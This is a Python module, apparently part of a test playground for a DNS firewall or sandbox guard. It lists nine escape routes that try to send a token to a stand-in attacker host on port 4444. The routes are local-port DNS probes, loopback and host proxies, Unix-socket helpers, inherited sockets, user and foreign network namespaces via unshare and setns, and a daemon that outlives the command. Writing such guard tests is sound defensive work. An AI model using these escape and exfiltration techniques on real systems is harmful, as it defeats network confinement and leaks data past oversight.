"""Ways out around the guard: its own ports, other namespaces, helpers outside, and outliving it.

Law: one function a way. Each runs in a process of its own, so it may change what it likes about itself.
"""

from __future__ import annotations

import ctypes
import errno
import os
import socket
import time
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path

from dnsfw.playground import atlas
from dnsfw.playground.package.names import ask_tcp, ask_udp, question
from dnsfw.playground.package.way import Loot, Way

_CLONE_NEWUSER, _CLONE_NEWNET = 0x10000000, 0x40000000
_LISTEN, _UNCONNECTED = "0A", "07"  # TCP_LISTEN, TCP_CLOSE: proc_pid_net(5)
_SINK = (atlas.EVIL.v4, 4444)
_libc = ctypes.CDLL(None, use_errno=True)


def every_open_door(loot: Loot) -> None:
    """A question to each local port that anybody listens on: a resolver might answer without asking whom it may."""
    socket.setdefaulttimeout(0.1)  # for each of many
    message = question(f"{loot.token}.{atlas.EVIL_ZONE}")
    for port in set(_ports("udp", _UNCONNECTED)):
        for address in ("127.0.0.1", atlas.STUB_RESOLVER, "::1", *_own_addresses()):
            with suppress(OSError):
                ask_udp(address, port, message)
    for port in set(_ports("tcp", _LISTEN)):
        for address in ("127.0.0.1", atlas.STUB_RESOLVER, "::1", *_own_addresses()):
            with suppress(OSError):
                ask_tcp(address, port, len(message).to_bytes(2, "big") + message)


def _ports(protocol: str, state: str) -> Iterator[int]:
    for table in (protocol, f"{protocol}6"):
        for line in Path("/proc/net", table).read_text(encoding="ascii").splitlines()[1:]:
            _, local, _, now, *_ = line.split()
            if now == state:
                yield int(local.rpartition(":")[2], 16)


def _own_addresses() -> Iterator[str]:
    for address, family in ((atlas.EVIL.v4, socket.AF_INET), (atlas.EVIL.v6, socket.AF_INET6)):
        with socket.socket(family, socket.SOCK_DGRAM) as probe, suppress(OSError):
            probe.connect((address, 9))
            yield probe.getsockname()[0]


def _through_proxy(address: str, loot: Loot) -> None:
    with socket.create_connection((address, atlas.PROXY_PORT)) as proxy:
        proxy.sendall(f"CONNECT {_SINK[0]}:{_SINK[1]} HTTP/1.1\r\n\r\n".encode())
        proxy.recv(4096)
        proxy.sendall(loot.token.encode())
        proxy.recv(2)


def loopback_proxy(loot: Loot) -> None:
    _through_proxy("127.0.0.1", loot)


def laptop_proxy(loot: Loot) -> None:
    _through_proxy(atlas.LAPTOP.v4, loot)


def _order(socket_name: str, loot: Loot) -> None:
    with socket.socket(socket.AF_UNIX) as helper:
        helper.connect(socket_name)
        helper.sendall(f"{_SINK[0]} {_SINK[1]} {loot.token}\n".encode())
        helper.recv(1)


def abstract_helper(loot: Loot) -> None:
    _order("\0" + loot.helper, loot)


def helper_by_path(loot: Loot) -> None:
    _order(loot.helper, loot)


def inherited_socket(loot: Loot) -> None:
    """Of whatever family it is: a stray netlink socket is no way to the internet, and a fault all the same."""
    if not loot.inherited:
        raise OSError(errno.EBADF, "nothing was left open")
    for number in loot.inherited:
        with socket.socket(fileno=os.dup(number)) as found:
            with suppress(OSError, TypeError):
                found.sendto(loot.token.encode(), _SINK)
            with suppress(OSError):
                found.send(loot.token.encode())


def _shout(loot: Loot) -> None:
    """By every means that a change of namespaces may have opened."""
    for kind, protocol in ((socket.SOCK_DGRAM, 0), (socket.SOCK_RAW, 253)):
        with suppress(OSError), socket.socket(socket.AF_INET, kind, protocol) as telling:
            telling.sendto(loot.token.encode(), _SINK)
    with suppress(OSError), socket.create_connection(_SINK, 0.5) as stream:
        stream.sendall(loot.token.encode())


def own_user_namespace(loot: Loot) -> None:
    """Root in a user namespace of one's own has every capability there (user_namespaces(7))."""
    _check(_libc.unshare(_CLONE_NEWUSER))
    _shout(loot)
    _check(_libc.unshare(_CLONE_NEWNET))
    _shout(loot)


def foreign_network_namespace(loot: Loot) -> None:
    """Into the network namespace of any process that can be seen (setns(2))."""
    refusal: OSError | None = None
    home = Path("/proc/self/ns/net").stat().st_ino
    for path in [process / "ns" / "net" for process in Path("/proc").iterdir() if process.name.isdecimal()]:
        try:
            if path.stat().st_ino != home:
                _enter(path)
                _shout(loot)
        except OSError as error:
            refusal = error
    if refusal is not None:
        raise refusal


def _enter(namespace: Path) -> None:
    fd = os.open(namespace, os.O_RDONLY)
    try:
        _check(_libc.setns(fd, _CLONE_NEWNET))
    finally:
        os.close(fd)


def _check(result: int) -> None:
    if result != 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))


def outlive(loot: Loot) -> None:
    """A daemon goes on trying for a while after the guarded command has ended."""
    if os.fork() != 0:
        return
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    os.closerange(0, 64)
    for _ in range(6):
        _shout(loot)
        time.sleep(0.2)
    os._exit(0)


_HELPERS = "only the sockets of known helpers (container engines, session buses) are hidden"

WAYS = (
    Way("open-doors", "a question to every local port in use", (25,), every_open_door),
    Way("proxy-loopback", "a proxy on the machine's loopback", (22,), loopback_proxy),
    Way("proxy-address", "a proxy at the machine's own address", (22,), laptop_proxy),
    Way("helper-abstract", "a helper, by abstract Unix socket", (28,), abstract_helper),
    Way("helper-path", "an unknown helper, by Unix socket path", (28,), helper_by_path, _HELPERS),
    Way("inherited", "a socket that the guard left open", (25,), inherited_socket),
    Way("user-namespace", "root in a user namespace of its own", (28,), own_user_namespace),
    Way("other-namespace", "another process's network namespace", (28,), foreign_network_namespace),
    Way("outlive", "a daemon that outlives the command", (30,), outlive),
)
